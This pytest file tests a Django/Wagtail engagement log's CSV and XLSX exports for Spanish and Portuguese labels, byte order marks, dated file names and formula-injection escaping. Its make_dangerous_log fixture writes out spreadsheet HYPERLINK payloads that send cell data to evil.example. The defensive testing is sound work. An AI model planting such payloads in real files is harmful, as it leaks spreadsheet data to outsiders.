"""The engagement log's exports read as words in the reader's language, open in Excel with their accents
and say in their file name what they hold and when (issue #19); no cell starts a formula (issue #12).

The staff user chose Spanish (or Portuguese) in their account while their browser asks for English, as
the admin allows: the whole file must follow the account, the CSV included, which is written while the
response is sent, after the view has returned.
"""

import codecs
import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import slugify
from django.utils.translation import gettext
from wagtail.users.models import UserProfile

from cities.models import CityPage
from cities.themes import original_themes
from contacts.models import Contact, Engagement, Organisation
from tests import factories, helpers

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx"]
ENGAGEMENTS = "wagtailsnippets_contacts_engagement:list"
CONTACTS = "wagtailsnippets_contacts_contact:list"
ORGANISATIONS = "wagtailsnippets_contacts_organisation:list"
BY_COUNTRY = "contacts_engagements_by_country:index"
LAST_ENGAGEMENT = "contacts_last_engagement:index"
THEME_COVERAGE = "contacts_theme_coverage:index"
# Each export and the start of its file name in Spanish.
SPANISH_FILE_NAMES = {
    ENGAGEMENTS: "interacciones",
    CONTACTS: "contactos",
    ORGANISATIONS: "organizaciones",
    BY_COUNTRY: "interacciones-por-pais-tipo-y-ano",
    LAST_ENGAGEMENT: "ciudades-por-ultima-interaccion",
    THEME_COVERAGE: "cobertura-ciudad-tema",
}
EXPORTS = list(SPANISH_FILE_NAMES)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def reader(client, staff_user):
    """A staff member whose account reads the admin in `language` (their browser asks for English)."""

    def read_in(language):
        profile = UserProfile.get_for_user(staff_user)
        profile.preferred_language = language
        profile.save()
        client.force_login(staff_user)
        return client

    return read_in


def make_log():
    """A workshop with its follow-up done and a call without, in a Mexican city, with an organisation
    and a contact."""
    themes = list(original_themes().order_by("slug"))
    city = factories.CityFactory(title="Mérida", country="MX")
    organisation = Organisation.objects.create(
        name="Alcaldía de Mérida", kind=Organisation.Kind.MUNICIPAL_GOVERNMENT, country="MX", city=city
    )
    contact = factories.ContactFactory(
        given_name="José",
        family_name="Núñez",
        organisation=organisation,
        city=city,
        preferred_language="pt",
        consent_basis="legitimate_interest",
        emails=["jose@merida.gob.mx"],
    )
    factories.EngagementFactory(
        title="Taller de alfabetización",
        cities=[city],
        kind="workshop",
        follow_up_done=True,
        participants=[contact],
        organisations=[organisation],
        themes=[themes[0]],
    )
    factories.EngagementFactory(
        title="Llamada de seguimiento", cities=[city], kind="call", follow_up_done=False
    )
    return {"city": city, "organisation": organisation, "contact": contact}


@pytest.fixture(scope="module")
def log_for_module(django_db_setup, django_db_blocker):
    """make_log's records, made once for the module (a city page takes tenths of a second) and rolled
    back after it; yields their pks."""
    with helpers.rolled_back_after_module(django_db_blocker):
        with translation.override("en"):  # as in a test (tests/conftest.py, english_by_default)
            records = make_log()
        yield {name: record.pk for name, record in records.items()}


@pytest.fixture
def log(db, log_for_module):
    """make_log's city, organisation and contact, fetched afresh for each test (dangerous_log changes the
    contact; each test's changes are rolled back after it)."""
    return {
        "city": CityPage.objects.get(pk=log_for_module["city"]),
        "organisation": Organisation.objects.get(pk=log_for_module["organisation"]),
        "contact": Contact.objects.get(pk=log_for_module["contact"]),
    }


def body(response):
    """The file as the browser receives it (a CSV is streamed: read here, after the view returned)."""
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def table(response, export_format):
    """The file's rows as {heading: cell}, the headings as the spreadsheet shows them."""
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
        rows = [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]
    headings, *cells = rows
    return headings, [dict(zip(headings, row, strict=True)) for row in cells]


def row_where(rows, heading, value):
    [row] = [row for row in rows if row[heading] == value]
    return row


def export(client, name, export_format):
    return table(client.get(reverse(name), {"export": export_format}), export_format)


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_engagement_export_names_kinds_and_follow_ups_in_spanish(reader, log, export_format):
    headings, rows = export(reader("es"), ENGAGEMENTS, export_format)

    assert headings[:3] == ["Fecha", "Tipo", "Título"]
    assert headings[-2:] == ["Seguimiento hecho", "ID"]
    workshop = row_where(rows, "Título", "Taller de alfabetización")
    assert str(workshop["ID"]) == str(Engagement.objects.get(title="Taller de alfabetización").pk)
    assert (workshop["Tipo"], workshop["Seguimiento hecho"]) == ("Taller", "Sí")
    assert (workshop["Ciudades"], workshop["Participantes"]) == ("Mérida", "José Núñez")
    call = row_where(rows, "Título", "Llamada de seguimiento")
    assert (call["Tipo"], call["Seguimiento hecho"]) == ("Llamada", "No")


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_organisation_export_names_kinds_and_countries_in_spanish(reader, log, export_format):
    headings, rows = export(reader("es"), ORGANISATIONS, export_format)

    assert headings == ["Nombre", "Tipo", "País", "Ciudad", "Sitio web"]
    organisation = row_where(rows, "Nombre", "Alcaldía de Mérida")
    assert (organisation["Tipo"], organisation["País"]) == ("Gobierno municipal", "México")


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_contact_export_names_languages_and_legal_bases_in_spanish(reader, log, export_format):
    headings, rows = export(reader("es"), CONTACTS, export_format)

    assert {"Nombre", "Apellidos", "Organización", "Idioma preferido", "Base legal"} <= set(headings)
    jose = row_where(rows, "Nombre", "José")
    assert (jose["Idioma preferido"], jose["Base legal"]) == ("Portugués", "Interés legítimo")
    assert jose["Organización"] == "Alcaldía de Mérida"


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_reports_export_countries_and_kinds_in_spanish(reader, log, export_format):
    client = reader("es")

    headings, rows = export(client, BY_COUNTRY, export_format)
    assert headings == ["Código de país", "País", "Año", "Tipo", "Interacciones"]
    assert {(row["País"], row["Tipo"]) for row in rows} == {("México", "Taller"), ("México", "Llamada")}

    headings, rows = export(client, LAST_ENGAGEMENT, export_format)
    assert headings == ["Ciudad", "País", "Última interacción", "Interacciones"]
    assert row_where(rows, "Ciudad", "Mérida")["País"] == "México"

    headings, rows = export(client, THEME_COVERAGE, export_format)
    assert headings[:2] == ["Ciudad", "País"]
    assert row_where(rows, "Ciudad", "Mérida")["País"] == "México"


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_portuguese_reader_gets_the_exports_in_portuguese(reader, log, export_format):
    client = reader("pt-br")
    today = timezone.localdate()

    response = client.get(reverse(ENGAGEMENTS), {"export": export_format})
    assert f'filename="interacoes-{today:%Y-%m-%d}.{export_format}"' in response["Content-Disposition"]
    headings, rows = table(response, export_format)
    assert "Acompanhamento feito" in headings
    workshop = row_where(rows, "Título", "Taller de alfabetización")
    assert (workshop["Tipo"], workshop["Acompanhamento feito"]) == ("Oficina", "Sim")
    assert row_where(rows, "Título", "Llamada de seguimiento")["Acompanhamento feito"] == "Não"

    headings, rows = export(client, ORGANISATIONS, export_format)
    organisation = row_where(rows, "Nome", "Alcaldía de Mérida")
    assert (organisation["Tipo"], organisation["País"]) == ("Governo municipal", "México")


@pytest.mark.parametrize("name", EXPORTS)
def test_every_csv_starts_with_a_byte_order_mark_and_keeps_its_accents(reader, log, name):
    response = reader("es").get(reverse(name), {"export": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(codecs.BOM_UTF8) == 1
    text = data[len(codecs.BOM_UTF8) :].decode("utf-8")
    assert "México" in text or "Mérida" in text


@pytest.mark.parametrize("export_format", FORMATS)
@pytest.mark.parametrize("name", EXPORTS)
def test_every_file_name_says_what_it_holds_and_the_day(reader, log, name, export_format):
    before = timezone.localdate()
    response = reader("es").get(reverse(name), {"export": export_format})
    after = timezone.localdate()

    assert response.status_code == 200
    stem = SPANISH_FILE_NAMES[name]
    assert response["Content-Disposition"] in {
        f'attachment; filename="{stem}-{day:%Y-%m-%d}.{export_format}"' for day in (before, after)
    }


def make_dangerous_log(contact):
    """Text that staff, focal points or imports chose, each beginning with a formula character, on top of
    make_log's records (its contact, given here, changed)."""
    texts = {character: f'{character}HYPERLINK("http://evil.example/?"&A1)' for character in FORMULA_STARTS}
    city = factories.CityFactory(title=texts["@"], country="MX")
    organisation = Organisation.objects.create(name=texts["="], kind="ngo", country="MX", city=city)
    contact.job_title = texts["-"]
    contact.organisation = organisation
    contact.save()
    factories.EngagementFactory(
        title=texts["+"],
        cities=[city],
        summary=texts["\t"],
        outcome=texts["\r"],
        participants=[contact],
        organisations=[organisation],
    )
    return texts


@pytest.fixture(scope="class")
def dangerous_log_for_class(log_for_module, django_db_blocker):
    """make_dangerous_log's records, made once for the tests of the class and rolled back after them (the
    other tests of the module must not see them); yields the texts."""
    with helpers.rolled_back_after_module(django_db_blocker):
        with translation.override("en"):  # as in a test (tests/conftest.py, english_by_default)
            texts = make_dangerous_log(Contact.objects.get(pk=log_for_module["contact"]))
        yield texts


@pytest.fixture
def dangerous_log(db, dangerous_log_for_class):
    """The texts of make_dangerous_log, whose records the tests of the class share."""
    return dict(dangerous_log_for_class)


@pytest.mark.usefixtures("dangerous_log_for_class")
class TestNoCellStartsAFormula:
    @pytest.mark.parametrize("name", EXPORTS)
    def test_no_csv_cell_starts_a_formula(self, reader, dangerous_log, name):
        headings, rows = export(reader("es"), name, "csv")

        cells = headings + [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        written = {text: "'" + text for text in dangerous_log.values()}
        assert set(written.values()) & set(cells) or name == BY_COUNTRY, "the text is still exported"

    @pytest.mark.parametrize("name", EXPORTS)
    def test_xlsx_cells_keep_the_text_as_text_not_as_a_formula(self, reader, dangerous_log, name):
        response = reader("es").get(reverse(name), {"export": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active

        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        risky = [cell for cell in cells if cell.value.startswith(FORMULA_STARTS)]
        assert risky or name == BY_COUNTRY, "the text is still exported"
        assert all(cell.data_type == "s" for cell in risky)


# The cities app's exports: the themes' listing and the focal points' activity report.
CITY_EXPORTS = {"wagtailsnippets_cities_theme:list": "temas", "cities_focal_point_activity:index": None}


@pytest.mark.parametrize("name", CITY_EXPORTS)
def test_the_city_exports_are_dated_and_open_with_their_accents(reader, themes, name):
    client = reader("es")
    with translation.override("es"):
        stem = CITY_EXPORTS[name] or slugify(gettext("Recent focal point activity"))
    response = client.get(reverse(name), {"export": "csv"})

    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="{stem}-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    assert body(response).startswith(codecs.BOM_UTF8)
